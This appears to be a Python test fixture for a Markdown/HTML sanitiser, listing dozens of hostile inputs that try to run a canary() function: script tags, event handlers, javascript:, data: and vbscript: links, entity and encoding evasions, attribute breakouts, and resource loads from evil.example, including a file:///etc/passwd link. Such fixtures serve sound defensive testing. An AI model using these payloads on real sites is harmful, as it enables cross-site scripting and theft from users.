"""Documents whose authors want to run a script in the page that shows them.

Each would call `canary(…)`, load something from elsewhere, or leave the frame it is shown in, if it could.
"""

JS = "javascript:canary(1)"
DATA = "data:text/html,<script>parent.canary(2)</script>"
SVG = "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='canary(3)'/>"

DOCUMENTS = {
    # Raw HTML
    "script block": "<script>canary(1)</script>",
    "script inline": "text <script>canary(1)</script> text",
    "script in pieces": "<scr\n\n<script>ipt>canary(1)</script>",
    "unclosed script": "<script src=//evil.example/x.js ",
    "event handler": "<img src=x onerror=canary(1)>\n\n<b onclick=canary(1) autofocus tabindex=1 onfocus=canary(1)>x</b>",
    "svg": "<svg onload=canary(1)><script>canary(2)</script><animate onbegin=canary(3) attributeName=x dur=1s></svg>",
    "math and mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=canary(1)&gt;'>",
    "iframe": f'<iframe src="{JS}"></iframe><iframe srcdoc="<script>parent.canary(1)</script>"></iframe>',
    "object and embed": f'<object data="{DATA}"></object><embed src="{SVG}">',
    "form and button": f'<form action="{JS}"><button formaction="{JS}">x</button></form>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={JS}">',
    "base and link": '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
    "style": "<style>@import 'https://evil.example/x.css'; *{background:url(https://evil.example/x)}</style>",
    "comment tricks": "<!--><script>canary(1)</script>-->\n\n<!-- --!><script>canary(2)</script>",
    "cdata and instructions": "<![CDATA[<script>canary(1)</script>]]>\n\n<?x <script>canary(2)</script> ?>\n\n<!X <script>canary(3)</script>>",
    "html in a table": "| <script>canary(1)</script> | b |\n|---|---|\n| <img src=x onerror=canary(1)> | c |",
    "html in a heading and a list": "# <svg/onload=canary(1)>\n\n- <img src=x onerror=canary(1)>",
    "details": "<details open ontoggle=canary(1)><summary>x</summary></details>",
    # Addresses
    "javascript links": f"[click]({JS}) [click](<{JS}>) [click][r] [r]\n\n[r]: {JS}",
    "javascript in capitals and space": "[click](JaVaScRiPt:canary(1)) [click](<\tjavascript:canary(1)>) [click](< javascript:canary(1)>)",
    "javascript by entities": "[click](&#106;avascript&colon;canary(1)) [click](&#x6a;avascript:canary&lpar;1&rpar;) [click](java&#10;script:canary(1))",
    "javascript with controls": "[click](<java&Tab;script:canary(1)>) [click](<\u0001javascript:canary(1)>) [click](<java\u200bscript:canary(1)>) [click](&NewLine;javascript:canary(1))",
    "javascript percent-encoded": "[click](javascript%3Acanary(1)) [click](%6aavascript:canary(1)) [click](java%0ascript:canary(1))",
    "javascript autolinks": f"<{JS}> <javascript://example.org/%0acanary(1)> javascript:canary(1)",
    "javascript with a comment": "[click](javascript://youtu.be/%0acanary(1)) ![x](javascript://youtu.be/dQw4w9WgXcQ)",
    "vbscript and others": "[click](vbscript:canary) [click](view-source:javascript:canary(1)) [click](feed:javascript:canary(1)) [click](jar:javascript:canary(1)!/)",
    "data links": f"[click](<{DATA}>) [click](<{SVG}>) [click](data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=)",
    "data pictures": f"![x](<{SVG}>) ![x](<{DATA}>) ![x](data:image/svg+xml;base64,PHN2Zy8+) ![x]({JS})",
    "blob and file": "[click](blob:https://evil.example/1) [click](file:///etc/passwd) ![x](file:///etc/passwd) [click](filesystem:http://x/t/x)",
    # Breaking out of attributes
    "title breaks out": "[click](/x \"t\\\" onmouseover=canary(1) autofocus onfocus=canary(1) x=\\\"\") ![x](/x '\"><script>canary(1)</script>')",
    "alternative text breaks out": "![\" onerror=canary(1) x=\"](x.png) ![\"><script>canary(1)</script>](x.png) ![`<img src=x onerror=canary(1)>`](x.png)",
    "destination breaks out": "![x](<x\" onerror=\"canary(1)>) [click](<\"><script>canary(1)</script>>) ![x](<'onerror=canary(1)'>)",
    "info string breaks out": "```x\" onmouseover=\"canary(1)\n<script>canary(1)</script>\n```\n\n~~~\"><script>canary(1)</script>\nx\n~~~",
    "players break out": "![\" autoplay onplay=canary(1) x=\"](/x.mp4) ![x](</x.mp4\" onerror=\"canary(1)>) ![\"></video><script>canary(1)</script>](</x.mp3 'y'>)",
    "frames break out": "![\" onload=canary(1) srcdoc=\"<script>parent.canary(1)</script>](https://youtu.be/dQw4w9WgXcQ) ![x](<https://youtu.be/dQw4w9WgXcQ\" onload=\"canary(1)>)",
    # Look-alikes of what becomes a frame
    "youtube look-alikes": "![x](https://youtube.com.evil.example/watch?v=dQw4w9WgXcQ) ![x](https://youtube.com@evil.example/watch?v=dQw4w9WgXcQ) ![x](https://evil.example/https://youtu.be/dQw4w9WgXcQ) ![x](https://youtu.be\\@evil.example/dQw4w9WgXcQ)",
    "vimeo look-alikes": "![x](https://vimeo.com.evil.example/1) ![x](https://player.vimeo.com@evil.example/video/1) ![x](https://player.vimeo.com/video/1%22%3E%3Cscript%3Ecanary(1)%3C/script%3E)",
    "our own mark": "![x](vitrine-player:0) ![y](/x.mp4) ![z](vitrine-player:0) `<img src=\"vitrine-player:0\" alt=\"\" />`",
    "players of data": "![x](data:video/mp4,x.mp4) ![x](javascript:canary(1)//x.mp4) ![x](blob:x.mp3)",
    # Elsewhere
    "pictures and films elsewhere": "![x](https://evil.example/x.png) ![x](//evil.example/x.png) ![x](http://evil.example/x.mp4) ![x](https://evil.example/x.mp3) ![x](\\\\\\\\evil.example/x.png)",
    "nested": "[![x](javascript:canary(1))](javascript:canary(2)) ![[a](javascript:canary(3))](x.mp4) [![y](https://youtu.be/dQw4w9WgXcQ)](javascript:canary(4))",
    "references by hostile names": "[click][<script>] ![x][\"onerror=canary(1)]\n\n[<script>]: javascript:canary(1)\n[\"onerror=canary(1)]: x.png '\"onerror=canary(2) \"'",
    "ids that shadow": "[click](#canary) <a id=canary name=canary>x</a> <form id=document><input name=cookie></form>",
    "task list": "- [x] <script>canary(1)</script>\n- [ ] [click](javascript:canary(1))",
    "many layers": "> 1. - # ~~**[![<script>canary(1)</script>](x.mp4 \"<script>\")](javascript:canary(1) '\"onclick=canary(2)')**~~",
    "autolinked text": "www.example.com/\"onmouseover=canary(1) https://example.org/<script>canary(1)</script> a@b.example\"onclick=canary(1)",
    "escaped twice": "&lt;script&gt;canary(1)&lt;/script&gt; \\<script>canary(1)\\</script> &amp;lt;script&amp;gt;",
    "odd characters": "<\u0000script>canary(1)</script> \ufeff<script>canary(1)</script> \u2028<img src=x onerror=canary(1)> [click](javascript\uff1acanary(1))",
}
